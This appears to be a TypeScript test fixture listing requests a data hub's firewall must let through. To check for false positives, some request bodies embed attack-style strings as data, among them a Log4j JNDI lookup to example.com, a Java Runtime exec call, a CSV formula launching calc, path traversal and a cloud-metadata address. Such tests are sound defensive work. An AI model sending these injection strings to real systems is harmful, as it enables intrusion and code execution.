/** Requests that the hub answers well, as a firewall before it sees them: none of them may be blocked. */

import { INSPECTED_BYTES, type SeenRequest } from '../../../twin/gateway/firewall/request.ts';
import { badFiles } from '../../fixtures/bad-files.ts';
import { longRows } from '../../fixtures/files.ts';

type Sent = Partial<Pick<SeenRequest, 'method' | 'path' | 'query' | 'listed'>> & {
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
};

const key = { authorization: 'Bearer dtm_dev_0123456789ab_0123456789abcdef' };

export const seen = ({
  method = 'GET',
  path = '/v1/totals',
  query = '',
  headers = { ...key, 'user-agent': 'curl/8.5.0' },
  body = '',
  listed = false,
}: Sent): SeenRequest => ({
  method,
  path,
  query,
  header: (name) => headers[name],
  body: body.slice(0, INSPECTED_BYTES),
  bodyBytes: Buffer.byteLength(body),
  listed,
});

const submit = (body: string, headers: Readonly<Record<string, string>> = {}) =>
  seen({
    method: 'POST',
    path: '/v1/submissions',
    body,
    headers: { ...key, 'content-type': 'application/json', 'user-agent': 'node', ...headers },
  });
const batchId = `H01~${'0a'.repeat(16)}~v~1`;
const file = (body: string, contentType: string, headers: Readonly<Record<string, string>> = {}) =>
  seen({
    method: 'POST',
    path: '/v1/batches',
    query: 'mode=valid-rows&dryRun=true&agency=H01&run=2',
    body,
    headers: { ...key, 'content-type': contentType, 'user-agent': 'node', ...headers },
  });
const note = (text: string) => submit(JSON.stringify({ system: 'H26.dvc', note: text }));
const agent = (value: string) => seen({ headers: { ...key, 'user-agent': value } });
const event = 'H26.dvc~etx-live~2026-11-05T10:31~';

export const validRequests: readonly (readonly [string, SeenRequest])[] = [
  ['Vietnamese text', note('Báo cáo tháng 10: 1 284 hồ sơ, đúng hạn 97 %; xử lý xong trước ngày 05/11')],
  ['angle brackets and quotes', note(`"quá hạn" < 5 %, 'đúng hạn' > 95 %; mẫu <b>01</b>`)],
  ['markup of an incident', note('form bị chèn <script>alert("hello")</script>, đã gỡ')],
  ['a path of another system', note('tệp nguồn: ../../du-lieu/2026-10.csv và ..\\bao-cao')],
  ['an address of an inner network', note('nguồn http://10.12.0.5/export và ftp://192.168.1.9/x')],
  ['a sentence about a cloud', note('đã chặn 169.254.169.254 theo khuyến cáo')],
  ['a sentence about Log4j', note(`đã vá lỗi \${jndi:ldap://example.com/} trong tháng`)],
  ['a sentence about Java', note('đã vá (java.lang.Runtime).getRuntime().exec("whoami")')],
  ['a body of 4 MB', submit(`{"cells":[${'{"value":"1"},'.repeat(290_000)}{}]}`)],
  [
    'CSV of 4 MB',
    submit('H26.dvc;2026-10;"a ""b"" <c>";1\r\n'.repeat(130_000), { 'content-type': 'text/csv' }),
  ],
  ['gzip', submit('\u001f\u008b\b\0\0../<script', { 'content-encoding': 'gzip' })],
  ['a file of formulas', file("system,note\r\nH01.dvc,=cmd|'/c calc'!A1\r\n".repeat(40), 'text/csv')],
  ['a file of lines of 4 MB', file('{"system":"H01.dvc"}\n'.repeat(190_000), 'application/x-ndjson')],
  [
    'a spreadsheet',
    file(
      `PK\u0003\u0004[Content_Types].xml<script>../../${'\0'.repeat(9000)}`,
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ),
  ],
  ['a file in gzip', file('\u001f\u008b\b\0\0', 'text/csv', { 'content-encoding': 'gzip' })],
  [
    'an order with the digests of ten thousand parts',
    file(JSON.stringify({ parts: Array.from({ length: 10_000 }, () => 'A'.repeat(44)) }), 'application/json'),
  ],
  // What is wrong as a file passes too: its sender is told by the hub, at its row, and not by the firewall.
  ...badFiles(longRows()).map(
    ({ wrong, bytes }) =>
      [`a file: ${wrong}`, file(Buffer.from(bytes).toString('latin1'), 'text/csv')] as const,
  ),
  [
    'an order for an upload',
    file(
      JSON.stringify({ size: 5 * 1024 ** 3, sha256: '0a'.repeat(32), mediaType: 'text/csv' }),
      'application/json',
    ),
  ],
  ...['parts', 'complete'].map(
    (what) =>
      [
        `${what} of an upload`,
        seen({ method: 'POST', path: `/v1/batches/${batchId}/${what}`, body: '{}' }),
      ] as const,
  ),
  ['an order that is given back', seen({ method: 'DELETE', path: `/v1/batches/${batchId}` })],
  ['a batch', seen({ path: `/v1/batches/${batchId}` })],
  [
    'its errors',
    seen({ path: `/v1/batches/${encodeURIComponent(batchId)}/errors`, query: 'format=csv&after=1000' }),
  ],
  ['a template', seen({ path: '/v1/catalogue/etx-monthly/template.xlsx' })],
  ['a series of months', seen({ query: 'dataset=etx-monthly&period=2026-01..2026-06' })],
  [
    'a percent-encoded series',
    seen({ query: 'period=2026-01%2E%2E2026-06&asOf=2026-11-16T09%3A30%3A00%2B07%3A00' }),
  ],
  [
    'a system named after a file',
    seen({ path: '/v1/submissions', query: 'system=H26.log&dataset=etx-monthly' }),
  ],
  ['a report of such a system', seen({ path: '/v1/submissions/H26.ini~etx-monthly~2026-10~1' })],
  ['a system named after a directory', seen({ path: '/v1/submissions/H26.web-inf~etx-monthly~2026-10~1' })],
  ['a key of events with two dots', seen({ path: `/v1/submissions/${event}a..b` })],
  ['a key of events that is an address', seen({ path: `/v1/submissions/${event}169.254.169.254` })],
  ['such a key in a query', seen({ path: '/v1/submissions', query: `after=${event}169.254.169.254..log` })],
  ['a percent-encoded id', seen({ path: `/v1/submissions/${encodeURIComponent(`${event}a`)}` })],
  ['the longest id, encoded', seen({ path: `/v1/submissions/${'%41'.repeat(200)}` })],
  [
    'the longest query, encoded',
    seen({
      path: '/v1/submissions',
      query: ['%41'.repeat(64), '%41'.repeat(60), '%41'.repeat(200)].join('&'),
    }),
  ],
  ['the withdrawal of an event', seen({ method: 'DELETE', path: `/v1/submissions/${event}a` })],
  ['no User-Agent', seen({ headers: key })],
  ...['curl/8.5.0', 'Java/1.8.0_402', 'Apache-HttpClient/4.5.14 (Java/17)', 'PHP/8.2', 'GuzzleHttp/7'].map(
    (value) => [value, agent(value)] as const,
  ),
  ...['python-requests/2.31', 'Go-http-client/1.1', 'okhttp/4.12', 'nmap-hoso-so-nganh/2'].map(
    (value) => [value, agent(value)] as const,
  ),
  ['a key in X-API-Key', seen({ headers: { 'x-api-key': 'dtm_dev_a_b' }, listed: true })],
  ['a listed address with a key', seen({ headers: key, listed: true })],
  ['no key, of whoever asks for the document', seen({ path: '/v1/openapi.json', headers: {} })],
];
